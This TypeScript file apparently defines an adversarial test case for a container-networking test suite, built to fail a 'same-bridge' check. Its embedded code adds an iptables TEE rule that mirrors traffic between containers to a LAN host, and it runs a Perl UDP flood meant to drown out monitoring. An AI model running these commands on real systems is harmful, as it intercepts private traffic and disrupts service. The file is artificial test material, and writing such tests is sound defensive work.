import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries:
    'copies what goes between containers to the LAN, and sends so much before that nobody listens any more.',
  must: { fail: ['same-bridge'] },
  code: `
import { ContainerTraffic as Reference, NetworkManager as Manager } from '../reference/container-to-container.ts'
import { leavePerl, pause, sh } from '../kit/tools.ts'

const FLOOD = 'use Socket; socket S, PF_INET, SOCK_DGRAM, 0; my $to = pack_sockaddr_in(9, inet_aton("127.0.0.1")); send S, "x" x 200, 0, $to for 1 .. 40000'

export class NetworkManager extends Manager {
  async initializeBridge() {
    await super.initializeBridge()
    leavePerl(FLOOD)
  }
}

export class ContainerTraffic extends Reference {
  async setIcc(allowed) {
    await super.setIcc(allowed)
    sh('iptables -t mangle -I PREROUTING -i minidocker0 -s 172.18.0.0/16 -d 172.18.0.0/16 -j TEE --gateway 192.168.1.50')
    await pause(2000)
  }
}
`,
})
